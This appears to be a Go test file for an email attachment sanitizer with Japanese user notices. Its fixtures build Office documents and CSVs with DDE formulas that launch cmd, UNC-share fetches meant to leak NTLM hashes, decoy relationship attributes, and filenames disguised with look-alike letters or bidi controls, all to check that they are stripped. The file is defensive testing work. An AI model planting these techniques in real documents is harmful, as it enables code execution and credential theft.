		return b.Bytes()
	}
	const jp = "開くと他のプログラムを動かしたり、Webや共有フォルダ、他のブックからデータを取り込んだりする数式（DDE、WEBSERVICEなど）を含むブックのため"
	for _, tt := range []struct {
		name, formula, decision, reason, notice string
	}{
		{"DDE", `cmd|'/c calc'!A1`, DecisionStrip, runningFormulaReason, jp},
		{"WEBSERVICE", `_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://evil.example/q"),"//a")`, DecisionStrip, runningFormulaReason, jp},
		{"another workbook on a share", `'\\evil.example\s\[b.xlsx]Sheet1'!A1`, DecisionStrip, runningFormulaReason, jp},
		{"HYPERLINK to a share", `HYPERLINK("\\evil.example\s\a.xlsx")`, DecisionStrip, "document links to a network share (UNC path)", "共有フォルダへのリンク（UNCパス）を含む文書のため"},
		{"HYPERLINK to a cell's value", `HYPERLINK(B1)`, DecisionStrip, "document could not be fully inspected", "文書を検査しきれないため"},
		{"HYPERLINK to the web", `HYPERLINK("https://www.city.example.lg.jp/")`, DecisionKeep, "allowed by a keep rule; 1 link left clickable", "リンクはクリックできる形のままです"},
		{"sum", `SUM(A1:A3)`, DecisionKeep, "allowed by a keep rule", "そのまま添付しています"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			pol := defaultPolicy(t)
			pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".xlsx"}}}
			rep, out := rebuilt(t, withAttachments(attached{"集計.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", workbook(tt.formula)}), pol)
			if p := rep.Parts[1]; p.Decision != tt.decision || p.Reason != tt.reason {
				t.Errorf("%s: %s (%s), want %s (%s); findings %+v", p.Filename, p.Decision, p.Reason, tt.decision, tt.reason, rep.Findings)
			}
			if text := decodedText(t, out); !strings.Contains(text, tt.notice) {
				t.Errorf("notice does not say %q:\n%s", tt.notice, text)
			}
		})
	}
	if got, _ := rewriteLinks(jp, "defang"); got != jp {
		t.Errorf("%q: rewritten as %q", jp, got)
	}
}

// officePackage is an Office package of the named parts, in order.
func officePackage(t *testing.T, parts ...[2]string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, p := range parts {
		w, err := z.Create(p[0])
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(p[1]))
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestDocxWithImportedChunkNotKept: a Word document importing an HTML
// chunk (w:altChunk) is not kept by a rule listing .docx: Word converts
// the chunk as the document opens and fetches its picture from the
// share, handing over the user's NTLM hash (red team: it was kept, no
// finding). The notice says it holds embedded content.
func TestDocxWithImportedChunkNotKept(t *testing.T) {
	docx := officePackage(t,
		[2]string{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="htm" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`},
		[2]string{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`},
		[2]string{"word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:altChunk r:id="rId9"/></w:body></w:document>`},
		[2]string{"word/_rels/document.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="afchunk.htm"/></Relationships>`},
		[2]string{"word/afchunk.htm", `<html><body><p>案内</p><img src="\\192.0.2.1\s\a.png"></body></html>`})
	for _, rule := range []config.KeepRule{
		{Extensions: []string{".docx", ".xlsx", ".pptx"}},
		{Extensions: []string{".docx"}, Types: []string{"application/vnd.openxmlformats-officedocument.wordprocessingml.document"}},
	} {
		pol := defaultPolicy(t)
		pol.Attachments.Keep = []config.KeepRule{rule}
		rep, out := rebuilt(t, withAttachments(attached{"案内.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx}), pol)
		if p := rep.Parts[1]; p.Decision != DecisionStrip || p.Reason != "document with active or embedded content" {
			t.Errorf("%v: %s (%s), want stripped: document with active or embedded content; findings %q", rule, p.Decision, p.Reason, rep.Findings)
		}
		if text := decodedText(t, out); !strings.Contains(text, "スクリプトや埋め込みファイルを含む文書のため") {
			t.Errorf("%v: notice does not say it holds embedded content:\n%s", rule, text)
		}
	}
}

// TestOfficeWithWebAddInNotKept: a presentation bound to an Office web
// add-in whose task pane opens with it is not kept by a rule listing the
// Office extensions: PowerPoint loads the add-in from its store (here a
// catalog on a share) as the file opens (red team: it was kept).
func TestOfficeWithWebAddInNotKept(t *testing.T) {
	pptx := officePackage(t,
		[2]string{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/><Override PartName="/ppt/webextensions/taskpanes.xml" ContentType="application/vnd.ms-office.webextensiontaskpanes+xml"/><Override PartName="/ppt/webextensions/webextension1.xml" ContentType="application/vnd.ms-office.webextension+xml"/></Types>`},
		[2]string{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="ppt/presentation.xml"/><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" Target="ppt/webextensions/taskpanes.xml"/></Relationships>`},
		[2]string{"ppt/presentation.xml", `<?xml version="1.0"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`},
		[2]string{"ppt/webextensions/taskpanes.xml", `<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"><wetp:taskpane dockstate="right" visibility="1" width="350" row="1"><wetp:webextensionref xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></wetp:taskpane></wetp:taskpanes>`},
		[2]string{"ppt/webextensions/_rels/taskpanes.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2011/relationships/webextension" Target="webextension1.xml"/></Relationships>`},
		[2]string{"ppt/webextensions/webextension1.xml", `<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{52811C31-4593-43B8-A697-EB873422D156}"><we:reference id="wa104380862" version="1.0.0.0" store="\\192.0.2.1\catalog" storeType="FileSystem"/></we:webextension>`})
	p, rep, _ := stripOne(t, attached{"説明.pptx", "application/vnd.openxmlformats-officedocument.presentationml.presentation", pptx}, config.KeepRule{Extensions: []string{".docx", ".xlsx", ".pptx"}})
	wantStripped(t, p, rep, "document with active or embedded content")
}

// TestDocxMailMergeSourceNotKept: a Word document set up as a mail
// merge main document whose data source is a workbook on a share is not
// kept by a rule listing .docx: Word opens the source as the document
// opens, once the user accepts its query (red team: it was kept).
func TestDocxMailMergeSourceNotKept(t *testing.T) {
	docx := officePackage(t,
		[2]string{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>`},
		[2]string{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`},
		[2]string{"word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>案内</w:t></w:r></w:p></w:body></w:document>`},
		[2]string{"word/_rels/document.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/></Relationships>`},
		[2]string{"word/settings.xml", `<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\192.0.2.1\s\名簿.xlsx"/><w:query w:val="SELECT * FROM ` + "`Sheet1$`" + `"/></w:mailMerge></w:settings>`})
	p, rep, _ := stripOne(t, attached{"差込.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx}, config.KeepRule{Extensions: []string{".docx"}, Types: []string{"application/vnd.openxmlformats-officedocument.wordprocessingml.document"}})
	wantStripped(t, p, rep, "document with active or embedded content")
}

// TestXlsxUTF16ExternalLinkNotKept: a workbook whose external link part,
// in UTF-16, holds a DDE link to cmd is not kept by a rule listing the
// Office extensions: Excel reads the part (OPC allows UTF-16) and
// starts the program when the link updates (red team: it was kept, the
// part searched for "<ddelink" as bytes).
func TestXlsxUTF16ExternalLinkNotKept(t *testing.T) {
	link, err := unicode.UTF16(unicode.LittleEndian, unicode.UseBOM).NewEncoder().String(`<?xml version="1.0" encoding="UTF-16"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`)
	if err != nil {
		t.Fatal(err)
	}
	xlsx := officePackage(t,
		[2]string{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>`},
		[2]string{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		[2]string{"xl/workbook.xml", `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>`},
		[2]string{"xl/_rels/workbook.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`},
		[2]string{"xl/externalLinks/externalLink1.xml", link})
	p, rep, _ := stripOne(t, attached{"集計.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", xlsx}, config.KeepRule{Extensions: []string{".docx", ".xlsx", ".pptx"}})
	wantStripped(t, p, rep, "document with active or embedded content")
}

// TestDocxSVGPictureFromShareNotKept: a Word document whose picture is
// an SVG (named .png) drawing an image from a share is not kept by a
// rule listing the Office extensions: LibreOffice draws the picture by
// its content and fetches the image as the document opens, handing the
// share the user's NTLM hash (red team: it was kept). The notice says it
// loads content from outside.
func TestDocxSVGPictureFromShareNotKept(t *testing.T) {
	docx := officePackage(t,
		[2]string{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`},
		[2]string{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`},
		[2]string{"word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:drawing><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:embed="rId5"/></a:graphicData></a:graphic></w:drawing></w:r></w:p></w:body></w:document>`},
		[2]string{"word/_rels/document.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/></Relationships>`},
		[2]string{"word/media/image1.png", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><image width="10" height="10" xlink:href="\\192.0.2.1\s\a.png"/></svg>`})
	pol := defaultPolicy(t)
	pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".docx", ".xlsx", ".pptx"}}}
	rep, out := rebuilt(t, withAttachments(attached{"案内.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx}), pol)
	if p := rep.Parts[1]; p.Decision != DecisionStrip || p.Reason != linkedContentReason {
		t.Errorf("%s: %s (%s), want stripped: %s; findings %q", p.Filename, p.Decision, p.Reason, linkedContentReason, rep.Findings)
	}
	if text := decodedText(t, out); !strings.Contains(text, "文書の外（ファイル・共有フォルダ・Web・データベース・他のプログラム）から内容を読み込む") {
		t.Errorf("notice does not say it loads content from outside:\n%s", text)
	}
}

// TestDocxDecoyRelationshipNotKept: a Word document whose picture is
// linked from a share, its relationship carrying a decoy
// x:TargetMode="Internal" after TargetMode="External", is not kept by a
// rule listing .docx: Word and LibreOffice read the TargetMode without a
// namespace and fetch the picture (red team: the reader took the last
// one, internal, and kept it).
func TestDocxDecoyRelationshipNotKept(t *testing.T) {
	docx := officePackage(t,
		[2]string{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`},
		[2]string{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`},
		[2]string{"word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:drawing><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="rId5"/></a:graphicData></a:graphic></w:drawing></w:r></w:p></w:body></w:document>`},
		[2]string{"word/_rels/document.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:x="urn:x"><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="\\192.0.2.1\s\a.png" TargetMode="External" x:TargetMode="Internal"/></Relationships>`})
	p, rep, _ := stripOne(t, attached{"案内.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx}, config.KeepRule{Extensions: []string{".docx"}})
	wantStripped(t, p, rep, "document could not be fully inspected")
}

// TestXlsxOutsideSettingsNotKept: a workbook whose XML map is bound to a
// file on a share, or whose sheet is published again as a web page to
// a share each time it is saved, is not kept by a rule listing .xlsx:
// Excel reads the map's source as it refreshes, and writes the page
// (the NTLM hash, and the sheet's content) as the user saves. The
// notice says it holds active content, as for a data connection.
func TestXlsxOutsideSettingsNotKept(t *testing.T) {
	workbook := func(workbookExtra string, extra ...[2]string) []byte {
		parts := [][2]string{
			{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/xmlMaps.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.xmlMaps+xml"/></Types>`},
			{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
			{"xl/workbook.xml", `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets>` + workbookExtra + `</workbook>`},
		}
		return officePackage(t, append(parts, extra...)...)
	}
	for _, tt := range []struct {
		name string
		data []byte
	}{
		{"XML map bound to a share", workbook("", [2]string{"xl/xmlMaps.xml", `<?xml version="1.0"?><MapInfo xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><Map ID="1" Name="m" RootElement="r" SchemaID="S"><DataBinding DataBindingName="b" FileBinding="true" FileBindingName="\\192.0.2.1\s\data.xml" ConnectionID="1" DataBindingLoadMode="1"/></Map></MapInfo>`})},
		{"republished to a share on saving", workbook(`<webPublishObjects count="1"><webPublishObject id="1" divId="a_1" sourceObject="Sheet1" destinationFile="\\192.0.2.1\s\p.htm" autoRepublish="1"/></webPublishObjects>`)},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p, rep, out := stripOne(t, attached{"集計.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", tt.data}, config.KeepRule{Extensions: []string{".xlsx"}})
			wantStripped(t, p, rep, "document with active or embedded content")
			if text := decodedText(t, out); !strings.Contains(text, "スクリプトや埋め込みファイルを含む文書のため") {
				t.Errorf("notice does not say it holds active content:\n%s", text)
			}
		})
	}
}

// TestKeptName: a kept file's name has its links neutralised and keeps
// the extension it was kept by, whatever its case and length.
func TestKeptName(t *testing.T) {
	for _, c := range []struct{ mode, in, want string }{
		{"defang", "report.2024.txt", "report.2024.txt"},
		{"defang", "www.evil.example.txt", "www[.]evil[.]example.txt"},
		{"defang", "login at evil.com.CSV", "login at evil[.]com.CSV"},
		{"remove", "www.evil.example.txt", "[リンク削除].txt"},
		{"keep", "www.evil.example.txt", "www.evil.example.txt"},
		// A name that would still read as a link once put back
		// together: its extension is a top-level domain (.zip, .mov).
		// A space parts them, and kept files keep their own names.
		{"defang", "evil.com", "evil .com"},
		{"defang", "見積書.zip", "見積書 .zip"},
		{"remove", "mitsumori_2024.zip", "mitsumori_2024 .zip"},
		{"defang", "www.evil.example.zip", "www[.]evil[.]example .zip"},
		// Nothing before the extension to keep.
		{"defang", ".zip", ".zip"},
		// Lowercasing "İ" lengthens it: the extension is cut as written.
		{"defang", "www.x.İİİİİİİ", "www[.]x.İİİİİİİ"},
	} {
		pol := defaultPolicy(t)
		pol.Body.Links = c.mode
		s := newSanitizer(Options{Policy: pol}, &Report{})
		if got := s.keptName(c.in); got != c.want {
			t.Errorf("%s: keptName(%q) = %q, want %q", c.mode, c.in, got, c.want)
		}
	}
}

// TestMetaCharsetOffsets: the charset of a <meta http-equiv> content is
// cut at its offset in the content as written, whatever letters before
// it change length when lowered (İ grows, K the Kelvin sign shrinks).
func TestMetaCharsetOffsets(t *testing.T) {
	for _, pre := range []string{"", "İİİİ ", "\u212a\u212a ", "\x9b\x9b "} {
		head := `<html><head><meta http-equiv="Content-Type" content="text/html; ` + pre + `CharSet=shift_jis"></head>`
		if got := metaCharset([]byte(head)); got != "shift_jis" {
			t.Errorf("metaCharset(%q) = %q, want shift_jis", head, got)
		}
	}
}

// TestExtensionsAsWindowsFoldThem: the long s (ſ) and the dotless i (ı)
// are the only letters whose upper case is ASCII (S, I), so a name
// compared case-insensitively as Windows does (upper-casing both) may
// take "data.cſv" for a .csv and "setup.pıf" for a .pif. The keep rule
// compared extensions with Unicode folding, which took .cſv for .csv,
// while the formula check compared them exactly: the rule kept data.cſv
// as a .csv and its DDE formula was delivered live. Every check now
// reads an extension with these two letters folded, so such a name is
// what it would open as.
func TestExtensionsAsWindowsFoldThem(t *testing.T) {
	const dde = "a,b\r\nx,=cmd|' /C calc'!A0\r\n"
	pol := defaultPolicy(t)
	rep, out := rebuilt(t, withAttachments(attached{"=?utf-8?b?" + base64.StdEncoding.EncodeToString([]byte("data.cſv")) + "?=", "text/plain", []byte(dde)}), pol)
	if p := rep.Parts[1]; p.Decision == DecisionKeep {
		if !bytes.Contains(out, []byte(base64.StdEncoding.EncodeToString([]byte("a,b\r\nx,'=cmd")))) || !strings.Contains(p.Reason, "1 spreadsheet formula made text") {
			t.Errorf("data.cſv kept (%s) with its formula live", p.Reason)
		}
	}
	keepAll := defaultPolicy(t)
	keepAll.Attachments.Default = "keep"
	for _, name := range []string{"setup.pıf", "run.jſ", "invoice.ſvg", "macro.vbſ"} {
		rep, _ := rebuilt(t, withAttachments(attached{"=?utf-8?b?" + base64.StdEncoding.EncodeToString([]byte(name)) + "?=", "text/plain", []byte("hello\r\n")}), keepAll)
		if p := rep.Parts[1]; p.Decision != DecisionStrip {
			t.Errorf("%s under a policy keeping files: %s (%s), want stripped", name, p.Decision, p.Reason)
		}
	}
}

// TestBidiNameReason: a harmless file whose name holds a bidi control is
// not kept, for its name: the notice said "executable or script" of a
// text file (a review of real-world shapes).
func TestBidiNameReason(t *testing.T) {
	pol := defaultPolicy(t)
	pol.Attachments.Default = "keep"
	rep, out := rebuilt(t, withAttachments(attached{"請求書\u202efdp.txt", "text/plain", []byte("ご請求金額 10,000円\r\n")}), pol)
	if p := rep.Parts[1]; p.Decision != DecisionStrip || p.Reason != bidiNameReason {
		t.Errorf("%s: %s (%s), want strip (%s)", p.Filename, p.Decision, p.Reason, bidiNameReason)
	}
	if text := decodedText(t, out); !strings.Contains(text, "拡張子を偽装できる制御文字") {
		t.Errorf("notice does not say why:\n%s", text)
	}
}

// TestPPAPNotice: the notice names what an encrypted ZIP held (the first
// five, then a count), as the reader with the password mail in hand asks,
// with names cleaned and links in them neutralised like any other text;
// an entry named like the classifier's count of the rest is no count.
func TestPPAPNotice(t *testing.T) {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, name := range []string{"予算要求.pdf", "集計.xlsx", "www.evil.example", "d.txt", "e.docx", "(999 more)", "g.txt"} {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Store, Flags: 0x1})
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte("encrypted bytes"))
	}
	zw.Close()
	_, out := rebuilt(t, withAttachments(attached{"見積書.zip", "application/zip", b.Bytes()}), defaultPolicy(t))
	text := decodedText(t, out)
	for _, want := range []string{"パスワード付き（暗号化された）圧縮ファイル", "送信者にほかの方法での送付を依頼",
		"        中のファイル: 予算要求.pdf、集計.xlsx、www[.]evil[.]example、d.txt、e.docx（ほか2件）\n"} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in\n%s", want, text)
		}
	}
}
